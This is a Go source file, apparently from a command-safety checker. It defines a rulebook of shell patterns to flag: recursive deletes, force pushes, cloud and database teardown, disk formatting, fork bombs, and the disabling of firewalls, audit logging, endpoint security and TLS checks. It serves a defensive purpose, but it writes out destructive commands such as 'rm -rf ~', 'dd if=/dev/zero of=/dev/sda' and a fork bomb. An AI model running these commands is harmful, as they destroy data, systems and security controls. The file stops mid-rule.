package command

// The rulebook has every act that is a finding. rules.go explains the rows. An empty when is an act
// that the walk sees by itself: a function that calls itself, a pattern in place of a name, a bound.
var rulebook = []rule{
	{id: "delete-top", label: "recursive delete", class: "destroy", tier: T4,
		reason: "it deletes a system, a home, the whole directory or its history",
		bad:    "rm -rf ~",
		good:   "rm -rf ./build",
		when: `rm -r,-R,--recursive @top
rm -r,-R,--recursive --no-preserve-root
rm --no-preserve-root /
mv @abstop *
rsync --delete*,--del @abstop !-n
Remove-Item,ri,rd,rmdir,del,erase -Recurse,/s,/S @top`},
	{id: "delete-tree", label: "recursive delete", class: "destroy", tier: T3,
		reason: "what it deletes does not come back by itself",
		bad:    "rm -rf src",
		good:   "rm -rf node_modules dist",
		when: `rm -r,-R,--recursive !@top !--no-preserve-root @lasting
rm @everything
shred,wipe,srm *
crontab -r
git ^clean -f,--force -d,-x,-X,--directories !-n
find-delete,code-delete @lasting
mv * /dev/null
tar,bsdtar,gtar --recursive-unlink,--remove-files @outside
Remove-Item,ri,del,erase,rd,rmdir -Recurse,/s,/S !@top @lasting
vssadmin delete
wmic shadowcopy delete
cipher /w*
code ~unlink ~many @lasting
rimraf,del-cli @lasting
scrub,sfill,nwipe,sdelete,sdelete64 *
bleachbit -c,--clean,-s,--shred
tmutil deletelocalsnapshots,delete,deleteinprogress
asr restore --erase
restic forget --prune !--keep-*
borg delete
borg prune !--keep-*
duplicity remove-all-but-n-full,remove-older-than --force
kopia snapshot delete
snapper delete
timeshift --delete,--delete-all
velero backup,schedule delete
pgbackrest stanza-delete
wal-g delete
barman delete
wbadmin delete
fsutil file setzerodata
Clear-RecycleBin,Clear-Content *
reg delete HK*
apt,apt-get,aptitude,dnf,yum,zypper remove,purge,erase,autoremove linux-image*,libc6,glibc,systemd,sudo,bash,coreutils,@star
rpm -e --nodeps
dpkg -P,--purge,-r,--remove --force*
pacman -R* --nodeps,-dd
pacman -Rdd*,-Rddns*,-Rscn* *
flatpak uninstall --all,--delete-data
docker,podman,nerdctl rm -v -f,--force
docker,podman,nerdctl rm -f,--force @listed
docker,podman,nerdctl container prune --volumes
postsuper -d ALL
exim,exim4,exim -Mrm
adb shell wipe
dd if=/dev/zero,if=/dev/null,if=/dev/urandom,if=/dev/random of=@outside !of=/swap*
fallocate -c,-p,-z @outside
fallocate -l=*G,-l=*T @outside !/swap*`},
	{id: "sync-delete", label: "recursive delete", class: "destroy", tier: T2,
		reason: "it deletes what the source does not have",
		bad:    "rsync -a --delete work/ host:/srv/work/",
		good:   "rsync -a --delete dist/ host:/srv/www/",
		when:   `rsync --delete*,--del @replaced !@abstop !-n`},
	{id: "unpack-over", label: "system overwritten", class: "destroy", tier: T3,
		reason: "it unpacks files over those of the system",
		bad:    "tar -C / -xzf rootfs.tgz",
		good:   "tar -C build -xzf rootfs.tgz",
		when: `tar,bsdtar,gtar -C=/,-C=/etc,-C=/usr,-C=/usr/,-C=/etc/,--directory=/
unzip -d=/,-d=/etc,-d=/usr
cpio -D=/,--directory=/`},
	{id: "truncate", label: "file emptied", class: "destroy", tier: T3,
		reason: "it empties a file outside of the project",
		bad:    ": > ~/notes.txt",
		good:   ": > logs/dev.log",
		when: `>emptied @outside
ln -s /dev/null @outside !/etc/systemd/*`},
	{id: "force-push", label: "force push", class: "history", tier: T3,
		reason: "it replaces what others have pulled, or may lose their work",
		bad:    "git push --force origin main",
		good:   "git push --force-with-lease origin alice/parser",
		when: `git ^push -f,--force,--mirror,--prune !-n
git ^push +* !-n
git ^push --force-with-lease* @trunk !-n
git ^push --force-with-lease* --all !-n
text ~text-push
git ^push --force-with-lease !@operand !-n
git ^push --force-if-includes
git ^push --force-with-lease --mirror,--all,--tags
git ^fetch +*:*
gh ^repo sync --force
gh ^pr merge --admin
hg,sl push -f,--force
git ^subtree push --force`},
	{id: "branch-deleted", label: "branch deleted", class: "history", tier: T3,
		reason: "others build on that branch or tag",
		bad:    "git push origin --delete main",
		good:   "git push origin --delete fix/typo",
		when: `git ^push @gone !-n
git ^push -d,--delete * @trunk !-n
git ^push -d,--delete @listed !-n
git ^push -d,--delete @listed !-n
git ^push -d,--delete release,release/*,refs/tags/*
git ^push :refs/tags/* !-n`},
	{id: "hard-reset", label: "hard reset", class: "history", tier: T3,
		reason: "it drops changes that nobody committed",
		bad:    "git reset --hard HEAD~3",
		good:   "git reset --soft HEAD~3",
		when: `git ^reset --hard
git ^stash clear
git ^checkout,^restore . !--staged,-S,-p,--patch
git ^restore -W,--worktree .
git ^rm -r . !--cached
git ^read-tree --empty
git ^checkout -f,--force *
text ~text-reset
git ^reset --merge
git ^stash drop
git ^read-tree --reset
git ^checkout-index -f
git ^switch -f,--force,--discard-changes
git ^checkout,^restore ./,:/,@star,:(top)* !--staged,-S,-b,-p,--patch
git ^worktree remove -f,--force
git ^worktree remove @listed
git ^clean -f,--force !-n,-i
git ^submodule deinit -f,--force
git ^merge -s=ours,--strategy=ours
git ^checkout --ours,--theirs .
git ^lfs prune --force
hg update,up,checkout,co -C,--clean
hg revert -a,--all
hg,sl purge,clean --all
svn revert -R,--recursive
p4 revert //...
bzr,darcs revert
jj op,operation restore
git ^pull -f,--force`},
	{id: "history-rewritten", label: "history rewritten", class: "history", tier: T3,
		reason: "commits that the old history had may be lost",
		bad:    "git filter-branch --index-filter x HEAD",
		good:   "git log --all",
		when: `git ^filter-branch,^filter-repo !--analyze
git ^reflog expire --*=now,--*=all,--all
git ^gc --prune=now,--prune=all
git ^update-ref -d
git ^update-ref @base
git ^reflog delete
git ^prune --expire=now
git ^replace * !-l,--list
git ^fast-import --force
gh ^api force=true
rm,shred,unlink @gitstore
svn delete,rm *://*
jj abandon
git ^branch,^tag -D,-d @base
git ^branch -D @listed
git ^branch -f,--force @base
git ^checkout,^switch -B,-C @base
git ^rebase --root
git-filter-repo,bfg *
java *bfg*.jar
hg strip
p4 obliterate
> @gitstore
git ^config receive.denyNonFastForwards,receive.denyDeletes,receive.denynonfastforwards,receive.denydeletes false,0
git ^config receive.denyCurrentBranch,receive.denycurrentbranch ignore,updateInstead
git ^config gc.reflogExpire*,gc.pruneExpire*,gc.reflogexpire*,gc.pruneexpire* now,0,*.now
git -c=gc.*=now,-c=gc.*=0
git ^tag -d @listed
git ^tag -d,--delete @listed
git ^tag -f,--force @base
git ^tag -f,--force v*
git ^lfs migrate --everything,--include*,--above*
git ^lfs migrate export
git ^notes,^remote prune --force
git ^branch,^checkout,^switch --orphan,-C,-B @base
git ^symbolic-ref -d,--delete
mv .git,*/.git *
hg rollback,histedit,prune
hg phase --force
svnadmin,svn setrevprop,propset --bypass-hooks,--revprop
jj abandon,op
fossil purge,shun,scrub
darcs obliterate,unrecord
gh ^api PATCH */git/refs/* force=true
git ^update-ref --stdin
git ^commit --amend --date=*
git ^branch -D release/*,release-*,hotfix/*
GIT_SEQUENCE_EDITOR= *drop*
jj git push --deleted`},
	{id: "cloud-destroyed", label: "cloud resources destroyed", class: "destroy", tier: T3,
		reason: "it destroys machines, storage or packages that others use",
		bad:    "terraform destroy",
		good:   "terraform plan -destroy",
		when: `terraform,tofu,terragrunt,pulumi,cdk,cdktf,vagrant,heroku,fly,flyctl destroy
terragrunt run-all destroy
terragrunt destroy-all
terraform,tofu apply -destroy
terraform,tofu state rm
serverless,sls,sst remove
copilot,amplify,sam delete
eb terminate
helm uninstall,delete,del
helmfile destroy,delete
flux uninstall
argocd app delete
eksctl,kops delete
kind delete cluster*
k3d cluster delete
minikube delete --all
kubectl,oc,k delete ns,namespace,namespaces,pv,pvc,persistentvolume*,node,nodes,no,crd,crds,customresourcedefinition*,deployment,deployments,deploy,statefulset,statefulsets,sts,daemonset,ds,service,svc,ingress,secret,secrets,all,project,ns/*,namespace/*,pv/*,pvc/*,deploy/*,deployment/*,sts/*,statefulset/*,node/*,crd/*,cluster,clusterrole
kubectl,oc,k delete --all,-A,--all-namespaces
kubectl,oc,k delete @listed
kubectl,oc,k replace --force
kubectl,oc,k drain
aws s3 rb
aws s3 rm --recursive
aws s3 sync --delete
aws * delete-bucket,delete-db-*,delete-table,delete-stack,delete-cluster,delete-function,delete-user,delete-role,delete-repository,delete-volume,delete-snapshot,delete-vpc,delete-file-system,delete-hosted-zone,delete-secret,delete-key*,delete-objects,delete-domain,delete-service,delete-load-balancer,delete-nodegroup,delete-log-group,delete-backup*,delete-identity-pool,delete-user-pool,delete-trail,delete-queue,delete-topic
aws * terminate-*,purge-*,schedule-key-deletion,deregister-*
gcloud * delete,purge
gsutil rm -r,-R
gsutil rb
gcloud storage rm,rb
az * delete,purge
az delete,purge
bq rm
doctl,linode-cli,hcloud,scw,oci,ibmcloud,wrangler * delete
doctl * destroy
heroku apps:destroy,pg:reset,addons:destroy
fly,flyctl * destroy
vercel remove,rm
netlify sites:delete
firebase firestore:delete,projects:delete,hosting:disable
railway delete,down
wrangler delete
supabase db reset
supabase projects delete
gh ^repo delete,archive
gh ^release delete
gh ^api DELETE
gh ^api -X=DELETE,--method=DELETE
glab repo delete
rclone purge,delete
s3cmd del,rb --recursive,-r,--force
s3cmd rb
mc rm,rb --recursive,--force
b2 delete-bucket
consul kv delete -recurse
etcdctl del --prefix
nomad system gc
nomad job stop -purge
vault secrets disable
docker,podman volume rm,prune
docker,podman system prune --volumes
docker stack rm
docker swarm leave --force
podman system reset
multipass purge
virsh undefine,destroy,vol-delete
VBoxManage unregistervm --delete
lxc delete --force
proxmox,qm destroy
npm unpublish
cargo,gem yank
twine remove
dotnet nuget delete
kafka-topics,kafka-topics.sh --delete
rabbitmqctl reset,force_reset,delete_queue,delete_vhost
curl DELETE *:9200* !@near
ansible *state=absent*
kubectl,oc,k scale --all --replicas=0
kubectl,oc,k delete -f,--filename *prod*
aws * delete-*
aws s3 rm,mv --recursive
aws s3api put-bucket-lifecycle*
s5cmd rm
swift delete
rados purge,rmpool
rbd rm,remove,purge
ceph osd pool,purge delete,rm,purge
gluster volume delete
openstack,nova,cinder,neutron,glance delete
openstack * delete
vultr-cli,civo,exo,upctl,rosa,ccloud,confluent,atlas,neonctl,pscale,turso,upstash,kamatera * delete,remove,rm,destroy,terminate
cf delete,delete-org,delete-space,delete-service
gh ^codespace,^run,^issue,^cache,^secret delete
gh ^api delete
glab release,mr,issue delete
glab,hub api DELETE
glab,hub api -X=DELETE,--method=DELETE
tea repos delete
pulumi stack rm
terraform,tofu workspace delete
terraform,tofu force-unlock
railway,render down,delete
wrangler r2,d1,kv,kv:namespace,queues,pages delete
vercel env rm
docker,podman,docker-compose -f=*prod*,--file=*prod*,-p=*prod*,--project-name=*prod* down -v,--volumes
rabbitmqadmin delete,purge
nats stream,kv rm,purge,del
rpk topic delete
pulsar-admin topics,tenants,namespaces delete
kafka-delete-records,kafka-delete-records.sh *
zkCli.sh,zookeepercli deleteall,rmr,delete
kcadm.sh delete
vault delete,kv,namespace -mount=*
vault kv delete,destroy,metadata
consul snapshot restore
etcdctl snapshot restore
ipmitool power off,cycle,reset
npm dist-tag,owner,team,access rm,remove,revoke
curator_cli delete_indices,delete_snapshots
curl,http,xh,https DELETE *api.github.com/*,*/api/v4/projects/*,*api.bitbucket.org*,*api.digitalocean.com*,*api.cloudflare.com*,*api.heroku.com*,*api.linode.com*,*management.azure.com*,*hub.docker.com*,*api.vercel.com*,*api.fly.io*,*/_all*,*:8500/*,*:2379/*
curl -X=DELETE,--request=DELETE *api.github.com/*,*/api/v4/projects/*,*api.bitbucket.org*,*api.digitalocean.com*,*api.cloudflare.com*,*api.heroku.com*,*api.linode.com*,*management.azure.com*,*hub.docker.com*,*api.vercel.com*,*api.fly.io*,*/_all*,*:8500/*,*:2379/*
curl -X=DELETE,--request=DELETE *:9200* !@near
Remove-AzResourceGroup,Remove-AzVM,Remove-AzStorageAccount,Remove-AzSqlDatabase,Remove-AzKeyVault,Remove-S3Bucket,Remove-VM,Remove-VHD,Remove-ADUser,Remove-ADGroup *
rabbitmqctl purge_queue,delete_user,forget_cluster_node
heroku apps,pg,addons,domains destroy,reset,remove
curl,http,https,xh *_delete_by_query* !@near`},
	{id: "sql-drop", label: "SQL drop", class: "destroy", tier: T3,
		reason: "it deletes data or tables of a database",
		bad:    "psql shop -c 'TRUNCATE orders'",
		good:   "psql -d app_test -c 'TRUNCATE orders'",
		when: `sql ~drop !@testdb
code ~query ~drop
DROP,drop,Drop,TRUNCATE,truncate-table table,database,schema,TABLE,DATABASE,SCHEMA,Table,Database,Schema *
DELETE,delete from,FROM *
dropdb * !@testdb
dropuser *
rails,rake,bin/rails db:drop,db:reset,db:drop:all,db:purge
php artisan migrate:fresh,db:wipe,migrate:reset
artisan migrate:fresh,db:wipe
prisma migrate reset
npx prisma migrate reset
sequelize,sequelize-cli db:drop
mysqladmin drop
redis-cli FLUSHALL,flushall
redis-cli FLUSHDB,flushdb !-n=@word
knex migrate:rollback --all
typeorm schema:drop
mix ecto.drop,ecto.reset
manage.py flush,reset_db
python,python3 *manage.py flush,reset_db
django-admin flush
influx delete
cqlsh DROP
flyway clean
alembic downgrade base
liquibase drop-all
text ~text-sql
sql ~update !~where !@testdb
rails,bin/rails runner *delete_all*,*destroy_all*
bin/console,console doctrine:database:drop,doctrine:schema:drop,doctrine:mongodb:schema:drop
php bin/console doctrine:database:drop,doctrine:schema:drop
wp db reset,drop,clean
drush sql-drop,sql:drop
dotnet ef database drop
prisma db push --force-reset
drizzle-kit drop
migrate drop
dbmate,goose,diesel,sqlx drop,reset,down-to
sqlx,diesel database drop,reset
atlas schema clean
neo4j-admin database,dbms delete,drop
redis-cli,valkey-cli,keydb-cli FLUSHALL,flushall,SHUTDOWN,shutdown
valkey-cli,keydb-cli FLUSHDB,flushdb
redis-cli,valkey-cli DEL,del,UNLINK,unlink @listed
redis-cli,valkey-cli EVAL,eval *flush*
%socket ~flush
redis-cli,valkey-cli,keydb-cli ~flush
pg_dropcluster *`},
	{id: "format", label: "format filesystem", class: "destroy", tier: T4,
		reason: "everything on the disk is lost",
		bad:    "mkfs.ext4 /dev/sdb1",
		good:   "mkfs.ext4 disk.img",
		when: `mkfs,mke2fs,newfs,mkswap,mkntfs,mkdosfs,mkexfatfs,fdisk,sfdisk,gdisk,blkdiscard,pvremove @disk !-n,-V,-l,-p,-N,--list,--no-act
wipefs -a,-o,--all @disk !-n,--no-act
cryptsetup luksFormat,luksErase,erase,reencrypt @disk
diskutil eraseDisk,eraseVolume,zeroDisk,secureErase,partitionDisk,reformat
badblocks -w @disk
hdparm --security-erase*,--trim-sector-ranges @disk
nvme format,sanitize @disk
mdadm --zero-superblock,--stop @disk
parted mklabel,mktable,rm,mkpart
parted @disk mklabel,mktable,rm,mkpart
sgdisk -Z,-o,-z,-d,-g,--zap-all,--clear @disk
text ~text-mkfs
sg_format,sg_sanitize *
flash_erase,nandwrite,flash_eraseall *
mtd erase,write
fastboot erase,format,flashall,-w
esptool,esptool.py erase_flash,erase-flash
flashrom -w,-E,--write,--erase
debugfs -w @disk
dmsetup remove_all,wipe_table
tpm2_clear *
cryptsetup luksRemoveKey,luksKillSlot @disk
zpool labelclear
diskutil apfs deleteContainer,deleteVolume,eraseVolume
lvreduce,lvresize -f,--force`},
	{id: "volume-removed", label: "format filesystem", class: "destroy", tier: T3,
		reason: "everything on the volume is lost",
		bad:    "zpool destroy tank",
		good:   "zpool status tank",
		when: `lvremove,vgremove *
zpool,zfs destroy
btrfs subvolume delete
format c:,C:,d:,D:,e:,E:
diskpart *
Clear-Disk,Format-Volume,Initialize-Disk
zfs rollback
Remove-Partition *`},
	{id: "raw-disk", label: "raw disk write", class: "destroy", tier: T4,
		reason: "it overwrites a disk",
		bad:    "dd if=/dev/zero of=/dev/sda",
		good:   "dd if=/dev/zero of=disk.img",
		when: `dd of=@device
text ~text-dd`},
	{id: "device-write", label: "write to device", class: "destroy", tier: T4,
		reason: "it overwrites a device",
		bad:    "cat x > /dev/sda",
		good:   "cat x > /dev/null",
		when: `> @device
code ~write @device
text ~text-device`},
	{id: "fork-bomb", label: "fork bomb", class: "destroy", tier: T4,
		reason: "it starts processes until the machine stops",
		bad:    ":(){ :|:& };:",
		good:   "f() { x; }; f & f",
		when:   `code ~fork`},
	{id: "system-stopped", label: "system stopped", class: "destroy", tier: T3,
		reason: "it stops the machine or all programs of a user",
		bad:    "sudo reboot",
		good:   "kill %1",
		when: `reboot,halt,poweroff @none
shutdown now,+*,0,1*,2*
shutdown -h,-r,-P,-H
telinit,init 0,6
kill -1
killall5 @none
killall5 -9
systemctl poweroff,reboot,halt,kexec
systemctl isolate rescue*
loginctl terminate-user
nsenter -t=1
Stop-Computer,Restart-Computer @none
Stop-Computer,Restart-Computer -Force
pkill,killall,skill -u,-U,--user
pkill -f .,.*
systemctl rescue,emergency,halt
shutdown /s,/r,/p
kill -9 -1
kill -KILL,-SIGKILL -1
init,telinit 0,6,1,s`},
	{id: "wide-open", label: "wide-open permissions", class: "weaken", tier: T3,
		reason: "everybody may change or use it then",
		bad:    "chmod -R 777 .",
		good:   "chmod 755 script.sh",
		when: `chmod @mode
chmod -R,--recursive @abstop
chown,chgrp -R,--recursive @abstop
chown,chgrp @system
umask 000,0000,0
setfacl *o::rwx*,*other::rwx*
install -m=777,-m=0777,-m=666,--mode=777
icacls *Everyone:*F*
xhost +
text ~text-chmod
chmod 644,0644,664,755,a+r,o+r,go+r,ugo+r,+r @secretfile
chmod -R,--recursive +w,a+w,o+w
setfacl *other:rwx*,*o:rwx*,*u:nobody:*
chgrp,chown -R,--recursive @system
icacls *Users:*F*,*Everyone*
takeown /f,/F
mount -o=*remount*exec*,-o=*remount*suid*,-o=*remount*dev*
setfacl -m,-R *:*w* /etc,/etc/*,/root,/root/*,/usr,/usr/*,/boot,/var,/`},
	{id: "set-id", label: "set-id program", class: "weaken", tier: T3,
		reason: "the program runs as its owner, whoever starts it",
		bad:    "chmod u+s /bin/bash",
		good:   "chmod g+s shared",
		when: `chmod @setid
setcap *
install -m=4755,-m=04755,-m=6755,-m=*xs*,-m=u+s*,--mode=4755,--mode=u+s*`},
	{id: "accounts", label: "accounts or privileges changed", class: "weaken", tier: T3,
		reason: "it changes who may do what on this machine or in a cloud",
		bad:    "usermod -aG sudo guest",
		good:   "usermod -aG docker me",
		when: `usermod,adduser,useradd,gpasswd *sudo*,*wheel*,root,admin
sql ~grant !@testdb
usermod,useradd 0
userdel,deluser *
chpasswd @none
chpasswd *
passwd -d
passwd root
dscl append
sudoedit /etc/sudoers*
net user,localgroup * /add
kubectl,oc,k run --privileged
kubectl,oc,k run *hostPID*
kubectl,oc,k create clusterrolebinding *cluster-admin*
gcloud add-iam-policy-binding *owner*,allUsers,*allUsers*,*allAuthenticatedUsers*,*editor*
aws iam create-access-key,attach-*-policy,put-*-policy,create-login-profile
az role assignment create
visudo -f !-c
sysadminctl -addUser,-deleteUser,-resetPasswordFor
dscl create,-create,append,-append,-passwd,passwd,delete,-delete
dseditgroup -a admin,wheel
passwd -d,-u
usermod,useradd -u=0,-o,--non-unique
usermod,useradd -u 0
usermod,gpasswd,adduser disk,shadow,root,admin,adm
chsh -s=@started
New-LocalUser,Add-LocalGroupMember,Enable-LocalUser *
aws iam create-user,create-policy-version,set-default-policy-version,update-assume-role-policy,add-user-to-group,update-login-profile,add-role-to-instance-profile,create-service-specific-credential,upload-ssh-public-key
gcloud iam service-accounts keys create
gcloud add-iam-policy-binding *admin*,*serviceAccountTokenCreator*
az ad sp,app create-for-rbac,credential
az role assignment,definition create
gh ^ssh-key,^gpg-key add
gh ^repo deploy-key add
gh ^api PUT */collaborators/*
glab ssh-key,deploy-key add
heroku keys:add,access:add
npm owner,access,team add,grant
npm token create
gem,cargo owner -a,--add
kubectl,oc,k create rolebinding,clusterrolebinding,clusterrole
kubectl,oc,k --as=system:*,--as-group=system:masters
oc adm add-scc-to-*,add-cluster-role-to-*
vault policy write
ssh-copy-id -f
ssh-copy-id -i=/tmp/*,-i=/dev/shm/*,-i=/var/tmp/*
gcloud compute add-metadata *ssh-keys*
gcloud compute os-login ssh-keys
aws ec2 import-key-pair
doctl,hcloud,linode-cli ssh-key,sshkeys import,create
docker swarm join
useradd,usermod,adduser --uid=0`},
	{id: "protection-off", label: "protection off", class: "weaken", tier: T3,
		reason: "it switches off what protects the machine or the project",
		bad:    "ufw disable",
		good:   "ufw status",
		when: `iptables,ip6tables -F,--flush,-X
iptables,ip6tables -P *
nft flush
ufw disable,reset
ufw allow any
xattr -d,-c com.apple.quarantine,*.app
security add-trusted-cert
redis-cli CONFIG,config SET,set protected-mode,requirepass
kubectl,oc,k delete validatingwebhook*,mutatingwebhook*,networkpolic*
setenforce 0,Permissive
csrutil disable
spctl --master-disable,--global-disable
systemctl stop,disable,mask auditd,firewalld,apparmor,ufw,iptables,nftables,fail2ban,falco,auditd.service,firewalld.service,rsyslog,clamav-daemon
service auditd,firewalld,ufw,iptables,fail2ban,apparmor stop
auditctl -D
auditctl -e=0
aa-disable,aa-teardown,aa-complain
sysctl *randomize_va_space=0,*ptrace_scope=0,*protected_*=0,*kptr_restrict=0,*ip_forward=1
swapoff -a
Set-MpPreference,Add-MpPreference -*
Set-ExecutionPolicy Unrestricted,Bypass
netsh advfirewall set
netsh firewall set
Set-NetFirewallProfile,Disable-NetFirewallRule *
sc stop,delete WinDefend
bcdedit /set
insmod,rmmod *
modprobe *.ko
chattr -i
mount *remount*rw* /
aws ec2 authorize-security-group-ingress 0.0.0.0/0,*0.0.0.0/0*,*::/0*
aws s3api put-bucket-acl,put-bucket-policy public-read,public-read-write,*Principal*
aws s3api delete-public-access-block,put-public-access-block
aws cloudtrail stop-logging,delete-trail
aws guardduty delete-detector
aws kms disable-key
gsutil,gcloud iam *allUsers*,*allAuthenticatedUsers*
az storage container set-permission
gcloud compute firewall-rules create *0.0.0.0/0*
gcloud compute firewall-rules create --source-ranges=0.0.0.0/0
gcloud sql instances patch --authorized-networks=0.0.0.0/0
az network nsg rule create Allow --source-address-prefix*
gh ^repo edit --visibility=public
kubectl,oc,k label,annotate *pod-security*privileged*
update-crypto-policies LEGACY
pfctl -d,-F
ipfw flush,disable
ipfw -f flush
nft flush,delete
iptables,ip6tables,ebtables -D,-F,--delete
iptables,ip6tables -I,-A INPUT,FORWARD ACCEPT !-p,-s,--dport,-i,-m
firewall-cmd --set-default-zone=trusted,--panic-off,--add-source=0.0.0.0/0
firewall-cmd --zone=trusted
ufw default allow
ufw allow from,proto any
socketfilterfw,/usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate,--setblockall off
xattr -c,-d,-r com.apple.quarantine
defaults write LSQuarantine,*alf*,askForPassword,*screensaver*,*SoftwareUpdate* *
softwareupdate --schedule off
fdesetup disable
nvram boot-args*
bputil *
tccutil reset
systemsetup -setremotelogin on
systemctl stop,disable,mask unattended-upgrades*,apt-daily*,systemd-journald*,syslog*,crowdsec*,wazuh*,ossec*,osquery*,falcon-sensor*,mdatp*,sentinel*,clamav*,sshguard*,snort*,suricata*,aide*,nftables*,ip6tables*,selinux*,*apparmor*,*auditd*,*firewalld*,*ufw*,*fail2ban*,*falco*,*rsyslog*,chronyd*,sysmon*,cbagent*,cbdaemon*
service *syslog*,*journald*,*wazuh*,*osquery*,*falcon*,*clam*,*crowdsec* stop
pkill,killall,kill auditd,rsyslogd,syslogd,falco,osqueryd,clamd,freshclam,fail2ban*,crowdsec,wazuh*,*falcon*,journald,systemd-journald,mdatp,XProtect*
launchctl unload,bootout,remove,disable *falcon*,*xprotect*,*XProtect*,*mrt*,*osquery*,*jamf*,*SentinelOne*,*sentinel*,*defender*,*crowdstrike*,*auditd*,*alf*
apt,apt-get,dnf,yum,pacman remove,purge,erase,-R,-Rns *falcon*,auditd,apparmor*,fail2ban,ufw,clamav*,rsyslog,firewalld,unattended-upgrades,osquery,selinux*
setsebool *
semanage permissive,boolean -a,-m
semodule -d,-r,-DB
apparmor_parser -R
aa-disable,aa-teardown,aa-complain,aa-remove-unknown @any
sysctl *unprivileged_userns_clone=1,*unprivileged_bpf_disabled=0,*dmesg_restrict=0,*suid_dumpable=*,*rp_filter=0,*accept_redirects=1,*accept_source_route=1,*modules_disabled=0,*tcp_syncookies=0,*perf_event_paranoid=-1,*sysrq=1,*mmap_min_addr=0,*exec-shield=0
grubby *selinux=0*,*mitigations=off*,*apparmor=0*,*audit=0*
kernelstub *mitigations=off*
auditctl -e 0
auditctl -e=0,-D
auditpol /clear,/set,/remove
manage-bde -off
Disable-*,Uninstall-WindowsFeature *
Disable-BitLocker,Disable-WindowsOptionalFeature,Disable-ComputerRestore,Disable-PSTrace *
net stop WinDefend,MpsSvc,wuauserv,*defend*,wscsvc,EventLog
sc stop,delete,config WinDefend,MpsSvc,wuauserv,EventLog,Sense
reg add *Defender*,*EnableLUA*,*LsaCfgFlags*,*UseLogonCredential*,*RunAsPPL*,*fDenyTSConnections*,*DisableRealtime*,*ConsentPromptBehavior*,*DisableFirewall*,*EnableFirewall*
google-chrome,google-chrome-stable,chromium,chromium-browser,chrome,brave,brave-browser,msedge,microsoft-edge --disable-web-security,--ignore-certificate-errors*,--allow-running-insecure-content,--remote-debugging-address=0.0.0.0,--disable-site-isolation-trials,--remote-allow-origins=@star
open --disable-web-security
aws * disable-*,stop-logging,deactivate-*,stop-configuration-recorder
aws s3 cp,sync,mv --acl=public-*
aws s3api put-object-acl,put-bucket-acl public-*
aws s3api put-bucket-acl,put-object-acl --acl=public-*
aws s3api put-bucket-versioning *Suspended*
aws s3api put-public-access-block,put-bucket-policy *
aws ec2 modify-image-attribute,modify-snapshot-attribute *all*
aws ec2 modify-instance-metadata-options optional
aws ec2 authorize-security-group-ingress,authorize-security-group-egress --cidr=0.0.0.0/0
aws rds modify-db-instance,modify-db-cluster --publicly-accessible,--no-deletion-protection,--no-storage-encrypted
aws lambda add-permission @star
aws lambda add-permission --principal=@star
aws lambda create-function-url-config,update-function-url-config NONE
aws cloudtrail update-trail --no-*
aws guardduty update-detector --no-enable
aws kms put-key-policy
aws ecr set-repository-policy
aws sns,sqs add-permission @star
aws organizations leave-organization,detach-policy
aws eks update-cluster-config *endpointPublicAccess=true*
gsutil acl,defacl,iam *AllUsers*,*allUsers*,public-read*
gcloud storage buckets,objects --member=allUsers,--member=allAuthenticatedUsers
gcloud * --member=allUsers,--member=allAuthenticatedUsers,--allow=all
gcloud services disable
gcloud sql instances patch --no-require-ssl,--no-deletion-protection,--no-backup
gcloud compute firewall-rules create,update 0.0.0.0/0
gcloud compute firewall-rules update --source-ranges=0.0.0.0/0
gcloud compute instances update --no-deletion-protection,--no-shielded*
gcloud container clusters update --no-enable-*
gcloud kms keys versions disable,destroy
az storage account update,create --allow-blob-public-access*
az storage account,keyvault,acr update --default-action=Allow
az keyvault update Allow
az sql server firewall-rule create
az webapp,functionapp update --https-only
az network nsg rule create,update @star,Internet,0.0.0.0/0
az vm disk detach
az security,monitor,lock delete
doctl compute firewall add-rules *0.0.0.0/0*
git ^config safe.directory @star
git ^config protocol.*.allow always
git ^config *.fsckObjects,*.fsckobjects,core.protectNTFS,core.protectHFS false
git ^config credential.helper store*
git ^config core.hooksPath,core.hookspath /dev/null
gh ^api PATCH *security_and_analysis*
gh ^api *security_and_analysis*disabled*
gh ^api *enforce_admins=false*,*required_*=null
gh ^api PUT */protection
gh ^repo edit --visibility public
gh ^repo edit --enable-*=false
gh ^workflow disable
gh ^secret,^ruleset remove
glab api *protected_branches*
lxc,incus config,launch,init,profile *security.privileged*
kubectl,oc,k patch,run,edit,set *privileged*true*,*hostPID*,*hostNetwork*,*allowPrivilegeEscalation*
kubectl,oc,k patch --patch=*privileged*,-p=*privileged*,-p=*hostPID*,--overrides=*privileged*,--overrides=*hostPID*
kubectl,oc,k run --overrides=*privileged*,--overrides=*hostPath*,--overrides=*hostPID*
kubectl,oc,k ~privpod
kubectl,oc,k taint *:NoSchedule- !node*
kubectl,oc,k delete psp,podsecuritypolic*,validatingadmission*,clusterpolic*,constraint*,networkpolicy,netpol
mysqld,mysqld_safe,mariadbd --skip-grant-tables
mongod --noauth,--bind_ip_all
mongod --bind_ip=0.0.0.0
redis-cli,valkey-cli CONFIG,config SET,set protected-mode,requirepass,bind
redis-cli,valkey-cli ACL,acl SETUSER,setuser *
jupyter,jupyter-lab,jupyter-notebook *token=,*token='',*password=,*disable_check_xsrf=True
code-server --auth=none
vncserver,x0vncserver *None*
x11vnc -nopw
vault auth,audit disable
vault token create -policy=root
consul,nomad acl delete
faillock,pam_tally2 --reset
timedatectl set-ntp false,0,no
aws ec2 modify-instance-attribute --no-*
git -c=core.hooksPath=*,-c=core.hookspath=*
aws rds modify-db-snapshot-attribute,modify-db-cluster-snapshot-attribute all
firewall-cmd --add-port=0-65535*,--add-port=1-65535*
mokutil --disable-validation
az * update --public-network-access=Enabled
ssh-keygen -p -N=@empty`},
	{id: "checks-off", label: "checks off", class: "weaken", tier: T3,
		reason: "programs no longer check whom they talk to, or what they install",
		bad:    "git config --global http.sslVerify false",
		good:   "git config --get http.sslVerify",
		when: `git ^config http.sslVerify,http.sslverify,http.*.sslVerify false,0
git -c=http.sslVerify=false,-c=http.sslverify=false
npm,yarn,pnpm set strict-ssl,enableStrictSsl false
npm,yarn,pnpm set strict-ssl=false
npm --strict-ssl=false
yarn config set unsafeHttpWhitelist
pip,pip3 config set *trusted-host*
pip,pip3 --trusted-host=@word
conda config ssl_verify false,False,no
conda config --set ssl_verify
composer config secure-http,disable-tls false,true
NODE_TLS_REJECT_UNAUTHORIZED= 0
GIT_SSL_NO_VERIFY= 1,true
PYTHONHTTPSVERIFY= 0
GOSUMDB= off
GONOSUMDB=,GONOSUMCHECK=,GOINSECURE= @word
GOFLAGS= *-insecure*
go env GOSUMDB=off,GONOSUMDB=*,GOINSECURE=*
